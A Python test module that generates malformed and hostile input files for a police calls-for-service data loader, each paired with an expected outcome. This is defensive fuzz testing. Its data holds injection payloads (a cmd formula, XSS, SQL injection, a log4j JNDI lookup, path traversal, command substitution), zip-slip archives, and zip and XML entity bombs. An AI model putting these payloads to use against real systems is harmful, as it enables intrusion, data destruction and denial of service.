"""Bad, odd and hostile inputs, made by code, each with the outcome that bad-inputs promises.

A case is bytes and one of four outcomes: the rows load, rows are set aside with a reason, the rows load with a warning,
or the file is refused with a sentence. Thirty good rows stand around whatever is wrong.
"""

import io
import json
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tests.trust import exports

GOOD = 30


@dataclass(frozen=True)
class Case:
    """One input. `outcome`: loaded, aside, warned or refused; `words` are in the reason; `rows` is how many load."""

    name: str
    file: str
    content: Callable[[], bytes]
    outcome: str
    words: str = ""
    rows: int = GOOD
    holds: str = ""  # a text that must arrive in `nature` as it was


def rows(count: int = GOOD) -> list[dict[str, str]]:
    return [exports.call(number) for number in range(count)]


def with_row(**changes: str) -> list[dict[str, str]]:
    """Thirty good rows, and in their middle one that was changed."""
    return [*rows()[:15], exports.call(90, **changes), *rows()[15:]]


def csv(content: list[dict[str, str]] | None = None, **named: Any) -> bytes:
    return exports.text(content if content is not None else rows(), **named).encode()


def with_line(line: str | bytes) -> bytes:
    """The export with one raw line in its middle."""
    raw = line if isinstance(line, bytes) else line.encode()
    lines = csv().split(b"\n")
    return b"\n".join([*lines[:16], raw, *lines[16:]])


def case(
    name: str,
    content: Callable[[], bytes],
    outcome: str,
    words: str = "",
    rows: int | None = None,
    file: str = "cad_x.csv",
    holds: str = "",
) -> Case:
    usual = {"loaded": GOOD + 1, "warned": GOOD + 1, "aside": GOOD, "refused": 0}
    return Case(name, file, content, outcome, words, usual.get(outcome, GOOD) if rows is None else rows, holds)


def encodings() -> list[Case]:
    accent = [exports.call(90, NATURE="Caf\u00e9 disturbance"), *rows()]
    good = csv()
    return [
        case("UTF-8 with a mark", lambda: b"\xef\xbb\xbf" + good, "loaded", rows=GOOD),
        case("two marks", lambda: b"\xef\xbb\xbf\xef\xbb\xbf" + good, "loaded", rows=GOOD),
        case("a mark in the middle", lambda: with_line(b"\xef\xbb\xbf" + csv([exports.call(90)]).split(b"\n")[1]), "loaded"),
        case("UTF-16 LE with a mark", lambda: b"\xff\xfe" + good.decode().encode("utf-16-le"), "loaded", rows=GOOD),
        case("UTF-16 BE with a mark", lambda: b"\xfe\xff" + good.decode().encode("utf-16-be"), "loaded", rows=GOOD),
        case("UTF-16 LE without a mark", lambda: good.decode().encode("utf-16-le"), "refused", "UTF-16"),
        case("UTF-16 BE without a mark", lambda: good.decode().encode("utf-16-be"), "refused", "UTF-16"),
        case("UTF-16 of an odd length", lambda: b"\xff\xfe" + good.decode().encode("utf-16-le")[:-1], "refused"),
        case("UTF-32", lambda: good.decode().encode("utf-32"), "refused"),
        case("cp1252 accents", lambda: exports.text(accent).encode("cp1252"), "loaded", holds="Caf\u00e9 disturbance"),
        case("UTF-8 accents", lambda: csv(accent), "loaded", holds="Caf\u00e9 disturbance"),
        case("mixed encodings", lambda: with_line(csv([exports.call(91, NATURE="Caf\u00e9")]).split(b"\n")[1].replace(b"Caf\xc3\xa9", b"Caf\xe9")).replace(b"Well-being", "B\u00fcro".encode(), 1), "aside", "not UTF-8"),
        case("an overlong sequence", lambda: csv(accent).replace(b"Caf", b"Caf\xc0\xaf", 1), "aside", "not UTF-8"),
        case("a surrogate in UTF-8", lambda: csv(accent).replace(b"Caf", b"Caf\xed\xa0\x80", 1), "aside", "not UTF-8"),
        case("NUL in a field", lambda: csv(with_row(NATURE="a\0b")), "aside", "NUL"),
        case("NUL tail", lambda: good + b"\0" * 8192, "refused", "NUL"),
        case("nothing but NUL", lambda: b"\0" * 8192, "refused"),
        case("control characters", lambda: csv(with_row(NATURE="a\x01b\x1b[2Jc")), "loaded"),
        case("right-to-left override", lambda: csv(with_row(NATURE="call \u202egnp.exe")), "loaded"),
        case("zero-width space in a key", lambda: csv(with_row(INC_NUM="I9\u200b0001")), "loaded"),
        case("no-break space around a label", lambda: csv(with_row(NATURE="\u00a0Well-being\u00a0check\u00a0")), "loaded", holds="Well-being check"),
        case("an emoji", lambda: csv(with_row(NATURE="call \U0001f6a8")), "loaded", holds="call \U0001f6a8"),
        case("decomposed letters", lambda: csv(with_row(NATURE="Cafe\u0301")), "loaded", holds="Caf\u00e9"),
        case("empty", lambda: b"", "refused", "empty"),
        case("white space", lambda: b" \n\t\n  \r\n", "refused", "blank"),
        case("random bytes", lambda: bytes((7 * n * n + n // 3) % 256 for n in range(20_000)), "refused"),
    ]  # fmt: skip


def structure() -> list[Case]:
    good, one = csv(), exports.call(90)
    line = csv([one]).decode().split("\n")[1]
    header = ",".join(exports.CAD)
    extra = (*exports.CAD, "SURPRISE")
    return [
        case("CRLF", lambda: csv(end="\r\n"), "loaded", rows=GOOD),
        case("CR alone", lambda: csv(end="\r"), "loaded", rows=GOOD),
        case("mixed line ends", lambda: good.replace(b"\n", b"\r\n", 7), "loaded", rows=GOOD),
        case("semicolons", lambda: csv(delimiter=";"), "loaded", rows=GOOD),
        case("tabs", lambda: csv(delimiter="\t"), "loaded", rows=GOOD),
        case("bars", lambda: csv(delimiter="|"), "loaded", rows=GOOD),
        case("one line with another delimiter", lambda: with_line(line.replace(",", ";")), "aside", "column"),
        case("half the file with another delimiter", lambda: csv(rows()[:15]) + b"\n".join(csv(rows()[15:], delimiter=";").split(b"\n")[1:]), "refused", "rows"),
        case("Excel's sep line", lambda: b"sep=,\n" + good, "refused", "skip_rows = 1 under [read] in sample_cad.toml"),
        case("newline in quotes", lambda: csv(with_row(NATURE="two\nlines")), "loaded"),
        case("an unclosed quote", lambda: with_line(line.replace("Well-being check", '"Well-being check')), "refused", "quote"),
        case("a stray quote", lambda: with_line(line.replace("Well-being check", '5" pipe')), "aside", "quote"),
        case("text after a closing quote", lambda: with_line(line.replace("Well-being check", '"Well"-being check')), "aside", "quote"),
        case("doubled quotes", lambda: csv(with_row(NATURE='he said "no"')), "loaded", holds='he said "no"'),
        case("every field quoted", lambda: b"\n".join(b",".join(b'"' + each + b'"' for each in row.split(b",")) for row in good.strip().split(b"\n")) + b"\n", "loaded", rows=GOOD),
        case("an extra column in a row", lambda: with_line(line + ",more"), "aside", "more than"),
        case("a short row", lambda: with_line(line.rsplit(",", 3)[0]), "aside", "fewer than"),
        case("a row of 500 columns", lambda: with_line(",".join(["x"] * 500)), "aside", "500 columns"),
        case("a row of 10,000 columns", lambda: with_line(",".join(["x"] * 10_000)), "aside", "10000 columns"),
        case("a header of 10,000 columns", lambda: (",".join(f"c{n}" for n in range(10_000)) + "\n" + "," * 9_999 + "\n").encode(), "refused"),
        case("cut off in the last row", lambda: good.rstrip(b"\n")[:-30], "refused", "cut off"),
        case("no newline at the end", lambda: good.rstrip(b"\n"), "loaded", rows=GOOD),
        case("a header twice over", lambda: good.replace(b"PRI,ELIG", b"PRI,PRI", 1), "refused", "twice"),
        case("an empty header name", lambda: csv(columns=(*exports.CAD, "")), "loaded", rows=GOOD),
        case("a required column missing", lambda: csv(columns=[each for each in exports.CAD if each != "CALL_RCVD"]), "refused"),
        case("an unknown column", lambda: csv([row | {"SURPRISE": "x"} for row in rows()], columns=extra), "loaded", rows=GOOD),
        case("columns in another order", lambda: csv(columns=exports.CAD[::-1]), "loaded", rows=GOOD),
        case("a header in small letters", lambda: good.replace(header.encode(), header.lower().encode(), 1), "loaded", rows=GOOD),
        case("a header with spaces and points", lambda: good.replace(b"CALL_RCVD", b" Call Rcvd. ", 1), "loaded", rows=GOOD),
        case("no header", lambda: good.split(b"\n", 1)[1], "refused", "column names"),
        case("a header again in the middle", lambda: with_line(header), "aside", "header"),
        case("title rows", lambda: b"Calls for service\nGenerated on 2025-07-01\n\n" + good, "refused", "line 4: the header"),
        case("a total below", lambda: good + b"Total,30" + b"," * (len(exports.CAD) - 2) + b"\n", "aside", "footer"),
        case("blank lines", lambda: good.replace(b"\n", b"\n\n", 9), "loaded", rows=GOOD),
        case("lines of delimiters only", lambda: with_line("," * (len(exports.CAD) - 1)), "loaded", rows=GOOD),
        case("a comment line", lambda: with_line("# exported by hand"), "aside", "comment"),
        case("two exports one after the other", lambda: good + good, "aside", "header", rows=GOOD),
        case("header only", lambda: (header + "\n").encode(), "warned", "no rows", rows=0),
        case("header only, no newline", header.encode, "warned", "no rows", rows=0),
        case("a line of 5 MB", lambda: with_line("x" * (5 << 20)), "refused", "longer than"),
        case("a field of 40 kB", lambda: csv(with_row(NATURE="x" * 40_000)), "aside", "32 kB"),
        case("another department's export", lambda: b"id,name\n1,a\n2,b\n", "refused", "inspect"),
        case("a web page", lambda: b"<!DOCTYPE html><html><body>Sign in</body></html>", "refused", "web page"),
        case("XML", lambda: b'<?xml version="1.0"?><rows/>', "refused", "XML"),
        case("an entity bomb", lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><a>&b;</a>', "refused", "XML"),
        case("a PDF", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "refused", "PDF"),
        case("a gzip", lambda: b"\x1f\x8b\x08\x00" + bytes(64), "refused"),
        case("a Parquet", lambda: b"PAR1" + bytes(64) + b"PAR1", "refused", "Parquet"),
        case("an SQLite database", lambda: b"SQLite format 3\0" + bytes(96), "refused"),
        case("a program", lambda: b"\x7fELF" + bytes(200), "refused"),
        case("a picture", lambda: b"\x89PNG\r\n\x1a\n" + bytes(64), "refused"),
    ]  # fmt: skip


DATES_ASIDE = ["02/31/2025 10:00:00", "13/01/2025 10:00:00", "00/10/2025 10:00:00", "02/29/2025 10:00:00", "03/01/25 10:00:00", "45000.5", "01/01/1900 00:00:00",
               "01/01/1904 00:00:00", "12/31/9999 23:59:59", "01/01/2093 00:00:00", "03/09/2025 02:30:00", "03/01/2025 25:00:00", "03/01/2025 10:61:00", "soon",
               "infinity", "-infinity", "now", "epoch", "today", "1e9", "1735689600", "0", "-1", "03/01/20250 10:00:00", "03/01/-2025 10:00:00",
               "10:00:00 03/01/2025", "00:05.0", "=NOW()", "NULL", "", "\u0660\u0663/\u0660\u0661/2025 10:00:00", "03/01/2025 10:00:00; drop table raw_calls"]  # fmt: skip
DATES_LOADED = [" 03/01/2025 10:00:00 ", "3/1/2025 9:05:00", "02/29/2024 10:00:00", "03/01/2025 24:00:00"]
POINTS = [("-71.11", "42.37", "warned", "exchanged"), ("0", "0", "warned", "no point"), ("91", "-71", "warned", "blank"), ("42.37", "-181", "warned", "blank"),
          ("2960000", "760000", "warned", "feet or metres"), ("34.05", "-118.24", "warned", "outside the bounds"), ("-42.37", "71.11", "warned", "outside the bounds"),
          ("42.37", "", "loaded", ""), ("", "-71.1", "loaded", ""), ("nowhere", "-71.1", "aside", "not a number"), ("nan", "nan", "aside", "not a number"),
          ("inf", "-71.1", "aside", "not a number"), ("1e2", "-71.1", "aside", "not a number"), ("42,37", "-71.1", "aside", "not a number")]  # fmt: skip
TEXTS = ["=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", '=HYPERLINK("http://x.example","y")', "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
         "<iframe srcdoc='<script>parent.x=1</script>'>", "![x](http://x.example/a.png)", "[x](javascript:alert(1))", "'; drop table fct_calls; --", "\" or 1=1 --",
         "${jndi:ldap://x}", "{{7*7}}", "../../etc/passwd", "$(touch x)", "`touch x`", "%s%n%x", "read_csv('/etc/passwd')", "\\\\server\\share", "null byte %00",
         "A&amp;B", "\u0130stanbul", "\ufdfd" * 20]  # fmt: skip
COUNTS_ASIDE = ["-3", "1e3", "0x1A", "1_000", "NaN", "inf", "2.5", "ten", "1,5,9", "9" * 40, "9" * 400, "1/2", "=2+2"]


def values() -> list[Case]:
    found = [
        case(f"received at {value!r}", lambda value=value: csv(with_row(CALL_RCVD=value)), "aside")
        for value in DATES_ASIDE
    ]  # type: ignore[misc]
    found += [
        case(f"received at {value!r}", lambda value=value: csv(with_row(CALL_RCVD=value)), "loaded")
        for value in DATES_LOADED
    ]  # type: ignore[misc]
    found += [
        case(f"at {lat!r}, {lon!r}", lambda lat=lat, lon=lon: csv(with_row(LAT=lat, LON=lon)), outcome, words)
        for lat, lon, outcome, words in POINTS
    ]  # type: ignore[misc]
    found += [
        case(
            f"text {value[:24]!r}",
            lambda value=value: csv(with_row(NATURE=value)),
            "loaded",
            holds=value if "&amp;" not in value else "A&B",
        )
        for value in TEXTS
    ]  # type: ignore[misc]
    found += [
        case("the daylight-saving fold", lambda: csv(with_row(CALL_RCVD="11/02/2025 01:30:00", DISP="", ONSCN="", CLR="")), "warned", "twice"),
        case("on scene before dispatch", lambda: csv(with_row(CALL_RCVD="03/03/2025 10:00:00", DISP="03/03/2025 10:20:00", ONSCN="03/03/2025 10:10:00", CLR="03/03/2025 11:00:00")), "warned", "before"),
        case("on scene for nine days", lambda: csv(with_row(CALL_RCVD="03/03/2025 10:00:00", DISP="03/03/2025 10:20:00", ONSCN="03/03/2025 10:30:00", CLR="03/12/2025 11:00:00")), "warned"),
        case("a new category", lambda: csv(with_row(CALL_SRC="PIGEON")), "loaded"),
        case("a category in other letters", lambda: csv(with_row(CALL_SRC=" Non-Emerg ")), "loaded"),
        case("a telephone number", lambda: csv(with_row(NATURE="call 617-555-0123")), "aside", "telephone"),
        case("a social security number", lambda: csv(with_row(NATURE="ssn 123-45-6789")), "aside"),
        case("the same row twice", lambda: csv([*rows(), rows()[3]]), "loaded", rows=GOOD),
        case("a conflicting row", lambda: csv([*rows(), rows()[3] | {"PRI": "1"}]), "warned", "other values", rows=GOOD),
        case("a key with its zeros", lambda: csv(with_row(INC_NUM='="00051"')), "loaded"),
        case("a key in scientific notation", lambda: csv(with_row(INC_NUM="2.02503E+11")), "refused", "digits are lost"),
        case("a key of spaces", lambda: csv(with_row(INC_NUM="   ")), "aside", "required"),
        case("a key of 300 letters", lambda: csv(with_row(INC_NUM="k" * 300)), "loaded"),
        case("a third of the rows bad", lambda: csv([row | ({"CALL_RCVD": "soon"} if n % 3 == 0 else {}) for n, row in enumerate(rows())]), "refused", "10 of 30"),
    ]  # fmt: skip
    return found


def needles() -> list[Case]:
    columns = ("SR_NUMBER", "REQUEST_TYPE", "OPENED_UTC", "NEEDLES")
    good = [
        {
            "SR_NUMBER": f"S{n}",
            "REQUEST_TYPE": "Needle Pickup",
            "OPENED_UTC": f"2025-03-{1 + n % 28:02}T10:00:00",
            "NEEDLES": str(n % 5),
        }
        for n in range(GOOD)
    ]

    def text(**changes: str) -> bytes:
        return exports.text([*good, good[0] | {"SR_NUMBER": "S99"} | changes], columns).encode()

    found = [
        case(
            f"needles {value[:12]!r} of {len(value)}",
            lambda value=value: text(NEEDLES=value),
            "aside",
            file="needles_311_x.csv",
        )
        for value in COUNTS_ASIDE
    ]  # type: ignore[misc]
    found += [
        case(f"needles {value!r}", lambda value=value: text(NEEDLES=value), "loaded", file="needles_311_x.csv")
        for value in ("0", "1,589", " 7 ", "12.0", "", "--", "N/A", "\u0661\u0662")
    ]  # type: ignore[misc]
    found += [
        case(
            "needles opened with an offset",
            lambda: text(OPENED_UTC="2025-03-01T10:00:00-05:00"),
            "loaded",
            file="needles_311_x.csv",
        ),
        case("needles as calls", lambda: text(), "loaded", file="cad_x.csv"),
    ]
    return found


def documents() -> list[Case]:
    good = rows()

    def js(value: object) -> bytes:
        return json.dumps(value).encode()

    point = {"type": "Point", "coordinates": [-71.11, 42.37]}
    features = [{"type": "Feature", "properties": row, "geometry": point} for row in good]
    return [
        case("JSON array", lambda: js(good), "loaded", rows=GOOD, file="cad_x.json"),
        case("JSON lines", lambda: b"\n".join(js(row) for row in good) + b"\n", "loaded", rows=GOOD, file="cad_x.json"),
        case("JSON in an envelope", lambda: js({"data": good}), "loaded", rows=GOOD, file="cad_x.json"),
        case("JSON with a mark", lambda: b"\xef\xbb\xbf" + js(good), "loaded", rows=GOOD, file="cad_x.json"),
        case("JSON cut off", lambda: js(good)[:-50], "refused", "JSON", file="cad_x.json"),
        case("JSON lines with one bad line", lambda: b"\n".join([*(js(row) for row in good), b'{"INC_NUM": ']) + b"\n", "aside", "not valid JSON", rows=GOOD, file="cad_x.json"),
        case("JSON of a number", lambda: b"[1, 2, 3]", "refused", "objects", file="cad_x.json"),
        case("JSON of nothing", lambda: b"[]", "refused", file="cad_x.json"),
        case("JSON object without records", lambda: b'{"a": 1}', "refused", "records", file="cad_x.json"),
        case("JSON nested 100,000 deep", lambda: b"[" * 100_000 + b"]" * 100_000, "refused", "deep", file="cad_x.json"),
        case("JSON objects nested deep", lambda: b'{"a":' * 50_000 + b"1" + b"}" * 50_000, "refused", "deep", file="cad_x.json"),
        case("JSON with NaN", lambda: js([*good, exports.call(90) | {"LAT": float("nan")}]), "aside", rows=GOOD, file="cad_x.json"),
        case("JSON with a huge number", lambda: js(good)[:-1] + b', {"INC_NUM": ' + b"9" * 5000 + b"}]", "aside", rows=GOOD, file="cad_x.json"),
        case("JSON with a nested value", lambda: js([*good, exports.call(90) | {"NATURE": {"a": ["b"]}}]), "loaded", rows=GOOD + 1, file="cad_x.json"),
        case("JSON in UTF-16", lambda: json.dumps(good).encode("utf-16"), "loaded", rows=GOOD, file="cad_x.json"),
        case("JSON with a lone surrogate", lambda: js(good)[:-1] + b', {"INC_NUM": "\\ud800"}]', "aside", rows=GOOD, file="cad_x.json"),
        case("JSON with 5,000 names", lambda: js([{f"k{n}": 1} for n in range(5000)]), "refused", file="cad_x.json"),
        case("JSON named CSV", lambda: js(good), "loaded", rows=GOOD),
        case("GeoJSON points", lambda: js({"type": "FeatureCollection", "features": features}), "loaded", rows=GOOD, file="cad_x.geojson"),
        case("GeoJSON in another projection", lambda: js({"type": "FeatureCollection", "crs": {"properties": {"name": "EPSG:2249"}}, "features": features}), "refused", "WGS 84", file="cad_x.geojson"),
        case("GeoJSON without geometry", lambda: js({"type": "FeatureCollection", "features": [each | {"geometry": None} for each in features]}), "loaded", rows=GOOD, file="cad_x.geojson"),
        case("GeoJSON of numbers", lambda: js({"type": "FeatureCollection", "features": [1, 2]}), "refused", "objects", file="cad_x.geojson"),
    ]  # fmt: skip


def zipped(**members: bytes) -> bytes:
    return archive(list(members.items()))


def archive(members: list[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members:
            made.writestr(name, content)
    return packed.getvalue()


def link(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return info


def encrypted() -> bytes:
    """A zip whose member says that it is encrypted."""
    raw = bytearray(archive([("cad_1.csv", csv())]))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        where = raw.index(mark) + at
        raw[where : where + 2] = struct.pack("<H", struct.unpack("<H", raw[where : where + 2])[0] | 1)
    return bytes(raw)


def damaged_member() -> bytes:
    raw = bytearray(archive([("cad_1.csv", csv())]))
    raw[120] ^= 0xFF
    return bytes(raw)


def archives() -> list[Case]:
    good = csv()

    def zip_case(
        name: str, content: Callable[[], bytes], outcome: str, words: str = "", rows: int | None = None
    ) -> Case:
        return case(name, content, outcome, words, rows, file="pack.zip")

    return [
        zip_case("a zip of one export", lambda: archive([("cad_1.csv", good)]), "loaded", rows=GOOD),
        zip_case("a zip with folders", lambda: archive([("2025/July/cad_1.csv", good)]), "loaded", rows=GOOD),
        zip_case("a zip that climbs out", lambda: archive([("../../cad_1.csv", good)]), "refused", "outside"),
        zip_case("a zip with an absolute path", lambda: archive([("/tmp/cad_1.csv", good)]), "refused", "outside"),
        zip_case("a zip with a drive", lambda: archive([("C:\\cad_1.csv", good)]), "refused", "outside"),
        zip_case("a zip that climbs out by backslash", lambda: archive([("..\\..\\cad_1.csv", good)]), "refused", "outside"),
        zip_case("a zip with a link", lambda: archive([(link("cad_1.csv"), b"/etc/passwd")]), "refused", "link"),
        zip_case("a zip bomb", lambda: archive([("cad_1.csv", b"0" * (60 << 20))]), "refused", "bomb"),
        zip_case("a zip in a zip", lambda: archive([("inner.zip", archive([("cad_1.csv", good)]))]), "refused"),
        zip_case("an encrypted zip", encrypted, "refused", "encrypted"),
        zip_case("a zip with a damaged member", damaged_member, "refused", "damaged"),
        zip_case("a zip cut off", lambda: archive([("cad_1.csv", good)])[:300], "refused", "damaged"),
        zip_case("a zip of nothing", lambda: archive([]), "refused"),
        zip_case("a zip of 20,000 files", lambda: archive([(f"{n}.csv", b"") for n in range(20_000)]), "refused", "20000 files"),
        zip_case("a zip with the same name twice", lambda: archive([("cad_1.csv", good), ("cad_1.csv", good)]), "loaded", rows=GOOD),
        zip_case("a zip with a device's name", lambda: archive([("CON", good)]), "loaded", rows=GOOD),
        case("a zip named CSV", lambda: archive([("cad_1.csv", good)]), "refused", "zip"),
    ]  # fmt: skip


def workbook(content: list[dict[str, str]] | None = None, change: Callable[[Any], None] = lambda sheet: None) -> bytes:
    """The export as XLSX, after `change` did something to its sheet."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(exports.CAD))
    for row in content if content is not None else rows():
        sheet.append([row[name] for name in exports.CAD])
    change(sheet)
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def rewritten(raw: bytes, member: str, change: Callable[[bytes], bytes], more: dict[str, bytes] | None = None) -> bytes:
    """A zip-based document with one of its parts changed, and others added."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            content = old.read(info)
            new.writestr(info.filename, change(content) if info.filename == member else content)
        for name, content in (more or {}).items():
            new.writestr(name, content)
    return made.getvalue()


def cell(at: str, value: Any) -> Callable[[Any], None]:
    def change(sheet: Any) -> None:
        sheet[at] = value

    return change


def second_sheet(hidden: bool) -> Callable[[Any], None]:
    def change(sheet: Any) -> None:
        other = sheet.parent.create_sheet("Notes")
        other.append(["nothing", "here"])
        other.sheet_state = "hidden" if hidden else "visible"

    return change


def ods(content: list[dict[str, str]]) -> bytes:
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    document = OpenDocumentSpreadsheet()
    table = Table(name="Sheet1")
    for values in [list(exports.CAD), *([row[name] for name in exports.CAD] for row in content)]:
        line = TableRow()
        for value in values:
            box = TableCell(valuetype="string")
            box.addElement(P(text=value))
            line.addElement(box)
        table.addElement(line)
    document.spreadsheet.addElement(table)
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def workbooks() -> list[Case]:
    from datetime import datetime

    def book(
        name: str,
        content: Callable[[], bytes],
        outcome: str,
        words: str = "",
        rows: int | None = None,
        file: str = "cad_x.xlsx",
    ) -> Case:
        return case(name, content, outcome, words, rows, file=file)

    def year_1904(sheet: Any) -> None:
        from openpyxl.utils.datetime import CALENDAR_MAC_1904

        sheet.parent.epoch = CALENDAR_MAC_1904
        sheet["B5"] = datetime(2025, 3, 5, 10, 0)

    entity = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>'
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    return [
        book("XLSX", workbook, "loaded", rows=GOOD),
        book("XLSX with real dates", lambda: workbook(change=cell("B5", datetime(2025, 3, 5, 10, 0))), "loaded", rows=GOOD),
        book("XLSX of the 1904 system", lambda: workbook(change=year_1904), "loaded", rows=GOOD),
        book("XLSX with a serial as a number", lambda: workbook(change=cell("B5", 45721.5)), "aside", "serial", rows=GOOD - 1),
        book("XLSX with an error value", lambda: workbook(change=cell("G5", "#REF!")), "aside", rows=GOOD - 1),
        book("XLSX with a formula never computed", lambda: workbook(change=cell("G5", "=1+1")), "aside", rows=GOOD - 1),
        book("XLSX with merged cells", lambda: workbook(change=lambda sheet: sheet.merge_cells("G5:G7")), "warned", "merged", rows=GOOD),
        book("XLSX with a hidden row", lambda: workbook(change=lambda sheet: sheet.row_dimensions.__getitem__(5).__setattr__("hidden", True)), "warned", "hidden", rows=GOOD),
        book("XLSX with a hidden second sheet", lambda: workbook(change=second_sheet(True)), "loaded", rows=GOOD),
        book("XLSX with a second sheet", lambda: workbook(change=second_sheet(False)), "loaded", rows=GOOD),
        book("XLSX with macros", lambda: rewritten(workbook(), "", bytes, {"xl/vbaProject.bin": b"\0" * 64}), "refused", "macros"),
        book("XLSM", lambda: rewritten(workbook(), "", bytes, {"xl/vbaProject.bin": b"\0" * 64}), "refused", "macros", file="cad_x.xlsm"),
        book("XLSX with an entity", lambda: rewritten(workbook(), SHEET, lambda xml: entity + xml.split(b"?>", 1)[-1]), "refused", "entities"),
        book("XLSX with one cell far away", lambda: rewritten(workbook(), SHEET, lambda xml: xml.replace(b"</sheetData>", far)), "refused", "far"),
        book("XLSX that says it is huge", lambda: rewritten(workbook(), SHEET, lambda xml: xml.replace(b'ref="A1:Q31"', b'ref="A1:XFD1048576"')), "refused", "claims to reach"),
        book("XLSX that unpacks to 400 MB", lambda: rewritten(workbook(), SHEET, lambda xml: xml + b" " * (400 << 20)), "refused", "unpacks"),
        book("XLSX cut off", lambda: workbook()[:-200], "refused"),
        book("XLSX with a damaged sheet", lambda: rewritten(workbook(), SHEET, lambda xml: xml[: len(xml) // 2]), "refused"),
        book("XLSX without a sheet", lambda: archive([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>")]), "refused"),
        book("XLSX encrypted", lambda: OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(2000), "refused", "encrypted"),
        book("an empty workbook", lambda: workbook([], lambda sheet: sheet.delete_rows(1)), "refused"),
        book("a workbook with a header only", lambda: workbook([]), "warned", "no rows", rows=0),
        book("a workbook with formulas as text", lambda: workbook(with_row(NATURE="'=cmd|x")), "loaded"),
        book("CSV named XLSX", csv, "refused", "text, not .xlsx"),
        book("XLSX named CSV", workbook, "refused", "workbook, not .csv", file="cad_x.csv"),
        book("ODS", lambda: ods(rows()), "loaded", rows=GOOD, file="cad_x.ods"),
        book("ODS with a million empty rows", lambda: rewritten(ods(rows()), "content.xml", lambda xml: xml.replace(b"</table:table>", b'<table:table-row table:number-rows-repeated="1000000"><table:table-cell/></table:table-row></table:table>')), "loaded", rows=GOOD, file="cad_x.ods"),
        book("ODS with a repeated cell bomb", lambda: rewritten(ods(rows()), "content.xml", lambda xml: xml.replace(b"</table:table>", b'<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="string" table:number-columns-repeated="16000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>')), "refused", file="cad_x.ods"),
        book("ODS cut off", lambda: ods(rows())[:-300], "refused", file="cad_x.ods"),
        book("an old Word document", lambda: OLE + bytes(3000), "refused", file="cad_x.xls"),
    ]  # fmt: skip


def all_cases() -> list[Case]:
    return [*encodings(), *structure(), *values(), *needles(), *documents(), *archives(), *workbooks()]
